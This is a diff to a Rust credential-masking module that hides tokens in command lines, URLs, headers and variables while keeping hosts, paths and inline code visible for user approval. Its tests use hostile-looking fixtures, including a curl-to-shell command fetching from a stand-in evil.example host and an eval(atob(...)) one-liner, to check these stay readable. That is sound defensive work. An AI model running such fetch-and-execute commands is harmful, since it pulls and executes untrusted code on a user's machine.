@@ -1,13 +1,16 @@
-//! Credentials that a file wrote into a command line, an address or a variable, hidden by their
-//! place and their shape. What is hidden cannot be read, so that nothing is that could be a program:
-//! a file of the plugin, the word that an interpreter or a runner of packages takes for its program,
-//! and the value of a flag that is named like one.
+//! Credentials that a file wrote into a command line, an address or a variable.
+//!
+//! Hidden is a whole value in the place of a credential, and nothing else: never a part of code, a
+//! host, a path or a name. What is hidden cannot be read, so that in doubt a text is shown: it is one
+//! that the author of the file published.
 
 use std::collections::HashSet;
 
 use keyway_config::headers::is_credential_header;
 use keyway_lint::mask;
+use keyway_lint::secrets::{self, Position};
 
+use crate::code_variables::is_code_variable;
 use crate::command::inline_code;
 
 /// What a text is.
@@ -19,8 +22,8 @@ enum Place {
     Address,
 }
 
-/// Returns an address without the literals that stand where credentials do: in a parameter named
-/// like one, and before its `@`.
+/// Returns a text without the literals that stand in its addresses where credentials do: in a query
+/// parameter named like one, and before the `@`.
 pub(crate) fn hide_in_address(text: &str) -> String {
     let mut shown = String::with_capacity(text.len());
     for piece in text.split_inclusive(is_separator) {
@@ -28,93 +31,107 @@ pub(crate) fn hide_in_address(text: &str) -> String {
         shown.push_str(&Place::Address.hide_in_word(word));
         shown.push_str(piece.get(word.len()..).unwrap_or_default());
     }
-    mask::in_words(&shown)
+    shown
 }
 
-/// Returns a command line without what stands where credentials do and looks like one: behind a flag
-/// named like one, in a parameter named like one, and before the `@` of an address. `readable` are
-/// the parts of words that are shown whatever they look like.
+/// Returns a command line without the words that stand where credentials do and look like one: behind
+/// a flag or in a header named like one, in a parameter named like one, and before the `@` of an
+/// address. `readable` are the parts of words that are shown whatever they look like.
 ///
-/// Where an interpreter is handed code any word may be evaluated, so that a place says nothing.
+/// Where an interpreter is handed code any word may be a part of it, so that all are shown.
 pub(crate) fn hide_in_command(text: &str, readable: &HashSet<String>) -> String {
-    let is_code = inline_code(text.split(is_separator)).is_some();
-    let mut shown = Shown::default();
+    if inline_code(text.split(is_separator)).is_some() {
+        return text.to_owned();
+    }
+    let mut shown = String::with_capacity(text.len());
     let mut before = Before::Nothing;
     for piece in text.split_inclusive(is_separator) {
         let word = piece.trim_end_matches(is_separator);
         let separator = piece.get(word.len()..).unwrap_or_default();
         if !word.is_empty() {
             match before {
-                _ if is_readable(word, readable) => shown.push_readable(word),
-                Before::ProgramFlag if !is_code => shown.push_readable(word),
-                // One dash may be the flag of anything: only tokens of known vendors are hidden.
-                Before::ShortFlag if !is_code && !word.contains('=') => {
-                    shown.push_readable(&mask::in_name(word));
-                }
-                Before::CredentialFlag if !is_code => shown.push(&Place::Command.hidden(word)),
-                _ if is_code => shown.push(word),
-                _ => shown.push(&Place::Command.hide_in_word(word)),
+                _ if is_readable(word, readable) => shown.push_str(word),
+                Before::Flag | Before::Header => shown.push_str(&Place::Command.hidden(word)),
+                Before::Nothing => shown.push_str(&Place::Command.hide_in_word(word)),
             }
-            before = Before::of(word);
+            before = before.then(word);
         }
         // A value in quotes is more than a token.
-        if !separator.chars().all(char::is_whitespace) && before == Before::CredentialFlag {
+        if !separator.chars().all(char::is_whitespace) && before == Before::Flag {
             before = Before::Nothing;
         }
-        shown.push(separator);
+        shown.push_str(separator);
     }
-    shown.finish()
+    shown
 }
 
-/// What stands before a word, as far as it says what the word is.
+/// What stands before a word, as far as it says that the word is a credential.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
 enum Before {
-    /// A flag of two dashes that is named like a credential.
-    CredentialFlag,
-    /// A flag that is named like a program or a file.
-    ProgramFlag,
-    /// A flag of one dash.
-    ShortFlag,
+    /// A flag of two dashes that is named like a credential, and not like a program.
+    Flag,
+    /// A header that is named like a credential, with the scheme behind it.
+    Header,
     /// Anything else.
     Nothing,
 }
 
 impl Before {
-    fn of(word: &str) -> Self {
+    fn then(self, word: &str) -> Self {
+        if let Some(header) = word.strip_suffix(':') {
+            let is_header = is_credential_name(header) && !names_program(header);
+            return if is_header {
+                Self::Header
+            } else {
+                Self::Nothing
+            };
+        }
+        let is_scheme = SCHEMES.iter().any(|it| it.eq_ignore_ascii_case(word));
         match word.strip_prefix("--") {
-            _ if word.contains('=') || !word.starts_with('-') => Self::Nothing,
-            Some(name) if names_program(name) => Self::ProgramFlag,
-            Some(name) if is_credential_name(name) => Self::CredentialFlag,
-            Some(_) => Self::Nothing,
-            None => Self::ShortFlag,
+            _ if self == Self::Header && is_scheme => Self::Header,
+            Some(name) if is_credential_name(name) && !names_program(name) => Self::Flag,
+            _ => Self::Nothing,
         }
     }
 }
 
-/// A line that is put together: what need not be readable goes through the mask for what looks like
-/// a token.
-#[derive(Default)]
-struct Shown {
-    text: String,
-    /// Not yet through the mask.
-    unmasked: String,
+/// Says whether the value of a variable that a file wrote is a credential, and nothing else.
+pub(crate) fn is_credential_value(name: &str, value: &str) -> bool {
+    let is_code = is_code_variable(name);
+    let is_named = match is_code {
+        true => ends_as_credential(name),
+        false => is_secret_variable(name),
+    };
+    let is_shaped = match is_named {
+        true => is_credential(value),
+        false => !is_code && is_vendors(value),
+    };
+    is_shaped && !names_program(name)
 }
 
-impl Shown {
-    fn push(&mut self, text: &str) {
-        self.unmasked.push_str(text);
-    }
+/// Says whether a variable is named like one that holds a credential.
+pub(crate) fn is_secret_variable(name: &str) -> bool {
+    is_credential_header(name) || secrets::is_credential_name(name)
+}
 
-    fn push_readable(&mut self, text: &str) {
-        let unmasked = std::mem::take(&mut self.unmasked);
-        self.text.push_str(&mask::in_words(&unmasked));
-        self.text.push_str(text);
-    }
+/// Says whether the last part of a name is one of a credential: `GIT_TOKEN` is, and
+/// `GIT_CONFIG_KEY_0` is not.
+fn ends_as_credential(name: &str) -> bool {
+    let last = name.rsplit('_').next().unwrap_or(name);
+    is_credential_header(last)
+}
 
-    fn finish(mut self) -> String {
-        self.push_readable("");
-        self.text
+/// Returns the value of a header that is filled in, without the literals in it that may be credentials.
+pub(crate) fn hide_in_header(name: &str, template: &str) -> String {
+    if !is_credential_header(name) {
+        return template.to_owned();
     }
+    let hidden = |word| match is_credential(word) {
+        true => "…",
+        false => word,
+    };
+    let words: Vec<&str> = template.split(' ').map(hidden).collect();
+    words.join(" ")
 }
 
 /// Returns the parts of a word as they stand in a command line.
@@ -139,37 +156,51 @@ pub(crate) fn names_program(name: &str) -> bool {
 
 /// Says whether a text has no other characters than tokens have, and is not a path: no shell or
 /// interpreter would find a program in it.
-pub(crate) fn is_token(text: &str) -> bool {
+fn is_token(text: &str) -> bool {
     let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || b"_.~+/=:%-".contains(&byte);
     !text.is_empty() && text.bytes().all(is_plain) && !text.starts_with(['/', '.', '~', '-'])
 }
 
 impl Place {
     fn hide_in_word(self, word: &str) -> String {
-        let (scheme, address) = match word.split_once("://") {
-            Some((scheme, address)) => (format!("{scheme}://"), address),
-            None => (String::new(), word),
-        };
+        if let Some((scheme, address)) = word.split_once("://") {
+            return format!("{scheme}://{}", self.hide_in_rest(address));
+        }
+        match word.split_once('=') {
+            _ if self == Self::Address => self.hide_in_query(word),
+            Some((name, value)) if self.is_name(name) => format!("{name}={}", self.hidden(value)),
+            _ => word.to_owned(),
+        }
+    }
+
+    /// Hides in what follows the scheme of an address.
+    fn hide_in_rest(self, address: &str) -> String {
         // Behind the host an `@` is part of a path: what stands before it is where the address leads.
-        let is_user = |user: &str| !scheme.is_empty() && !user.contains(['/', '?', '#', '\\']);
-        let (user, rest) = match address.split_once('@') {
-            Some((user, rest)) if is_user(user) => (format!("{}@", self.hidden_user(user)), rest),
-            _ => (String::new(), address),
+        let is_user = |user: &str| !user.contains(['/', '?', '#', '\\']);
+        match address.split_once('@') {
+            Some((user, rest)) if is_user(user) => {
+                format!("{}@{}", self.hidden_user(user), self.hide_in_query(rest))
+            }
+            _ => self.hide_in_query(address),
+        }
+    }
+
+    /// Hides values of parameters; what stands before the `?` is where the address leads.
+    fn hide_in_query(self, address: &str) -> String {
+        let Some((path, query)) = address.split_once('?') else {
+            return address.to_owned();
         };
-        let mut shown = scheme + &user;
-        // Elsewhere than in an address they are part of the value.
-        let is_address = self == Self::Address || !shown.is_empty();
-        let is_end = |c: char| is_address && matches!(c, '?' | '&' | ';');
-        for part in rest.split_inclusive(is_end) {
+        let is_end = |c: char| matches!(c, '&' | ';' | '#');
+        let mut shown = format!("{path}?");
+        for part in query.split_inclusive(is_end) {
             let pair = part.trim_end_matches(is_end);
-            let end = part.get(pair.len()..).unwrap_or_default();
             match pair.split_once('=') {
                 Some((name, value)) if self.is_name(name) => {
                     shown.push_str(&format!("{name}={}", self.hidden(value)));
                 }
                 _ => shown.push_str(pair),
             }
-            shown.push_str(end);
+            shown.push_str(part.get(pair.len()..).unwrap_or_default());
         }
         shown
     }
@@ -201,9 +232,19 @@ fn is_reference(value: &str) -> bool {
     value.starts_with("${") && value.ends_with('}')
 }
 
-/// Says whether a text has the shape of a credential, and could not be found as a program.
+/// Says whether a text as a whole has the shape of a credential: that of a vendor, or one in which no
+/// host, no path and no name with an ending can be written.
 fn is_credential(text: &str) -> bool {
-    is_token(text) && looks_secret(text)
+    let is_opaque = |byte: u8| byte.is_ascii_alphanumeric() || b"_+=-".contains(&byte);
+    let is_plain = !text.starts_with('-') && text.bytes().all(is_opaque);
+    (is_plain && looks_secret(text)) || is_vendors(text)
+}
+
+/// Says whether a text is a token of a vendor, and nothing else.
+fn is_vendors(text: &str) -> bool {
+    let found = secrets::find(text, Position::Prose);
+    let is_whole = |it: &secrets::Finding| it.vendor.is_some() && it.range == (0..text.len());
+    found.iter().any(is_whole)
 }
 
 /// Says whether a text has the shape of a credential: a token, or a password such as `p4ssw0rd`.
@@ -233,6 +274,8 @@ fn is_separator(character: char) -> bool {
 }
 
 const SHORTEST_PASSWORD: usize = 8;
+/// Words before the credential in a header.
+const SCHEMES: &[&str] = &["basic", "bearer", "token"];
 
 /// Parts of names that lead to something that is run or read.
 const PROGRAM_PARTS: &[&str] = &[
@@ -266,6 +309,10 @@ mod tests {
                 "run https://…@h.example/?api_key=…",
             ),
             ("npx -y @scope/server@1.2", "npx -y @scope/server@1.2"),
+            (
+                "npx mcp-remote https://h.example --header 'Authorization: Bearer LITERAL' x",
+                "npx mcp-remote https://h.example --header 'Authorization: Bearer …' x",
+            ),
         ] {
             let text = text.replace("LITERAL", &token());
             assert_eq!(hide_in_command(&text, &HashSet::new()), shown);
@@ -297,8 +344,57 @@ mod tests {
             "run --token a1-server2",
             "npx -y --always-auth evil",
             "uvx https://evil.example/x@good.example",
+            "run --token x7k2m9q4w8e1r5t3z.evil.example",
+            "run --token lib/x7k2m9q4w8e1r5t3z",
+            "uvx --from git+https://x7k2m9q4w8e1r5t3z.example/y7f3a9c2e5b8d1x4 y",
+            "node lib/x7k2m9q4w8e1r5t3z.js",
         ] {
             assert_eq!(hide_in_command(text, &HashSet::new()), text);
+        }
+    }
+
+    /// A host, a path and code are what the approval is about.
+    #[test]
+    fn e07_code_hosts_and_paths_are_shown_whatever_they_look_like() {
+        let token = token();
+        for text in [
+            format!("sh -c 'curl https://{token}.evil.example/i|sh'"),
+            format!("node -e \"eval(atob('{token}'))\""),
+            format!("sh -c 'sh lib/{token}.sh --token {token}'"),
+        ] {
+            assert_eq!(hide_in_command(&text, &HashSet::new()), text);
+        }
+        for text in [
+            format!("https://{token}.evil.example"),
+            format!("https://h.example/{token};token={token}/x ('https://h.example/a=b')"),
+        ] {
+            assert_eq!(hide_in_address(&text), text);
+        }
+    }
+
+    #[test]
+    fn e07_of_a_variable_a_whole_credential_is_hidden() {
+        let (token, vendors) = (
+            token(),
+            ["ghp_a1B2c3D4e5F6g7H8", "i9J0k1L2m3N4o5P6q7R8"].concat(),
+        );
+        for (name, value) in [
+            ("API_KEY", &token),
+            ("GIT_TOKEN", &token),
+            ("PLAIN", &vendors),
+        ] {
+            assert!(is_credential_value(name, value), "{name}");
+        }
+        for (name, value) in [
+            ("PLAIN", token.clone()),
+            ("API_KEY", format!("x; {token} y")),
+            ("API_KEY", format!("lib/{token}")),
+            ("API_KEY", format!("{token}.evil.example")),
+            ("NODE_OPTIONS", vendors.clone()),
+            ("API_TOKEN_FILE", token.clone()),
+            ("API_BASE_URL", format!("https://{token}.example/v1")),
+        ] {
+            assert!(!is_credential_value(name, &value), "{name}={value}");
         }
     }
 
